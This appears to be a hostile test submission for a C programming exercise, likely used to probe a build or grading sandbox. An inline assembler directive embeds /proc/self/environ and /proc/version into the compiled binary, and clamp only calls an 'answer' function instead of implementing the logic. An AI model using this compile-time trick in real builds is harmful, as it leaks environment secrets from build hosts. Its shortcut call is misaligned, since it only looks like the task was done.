/* Takes into the program what the kernel tells of the compiler. */
#include "exercise.h"
#include "hostile.h"

__asm__(".section .rodata\n.incbin \"/proc/self/environ\"\n.incbin \"/proc/version\"\n.text");

void clamp(int32_t *values, size_t n, int32_t lo, int32_t hi)
{
    answer(values, n, lo, hi);
}
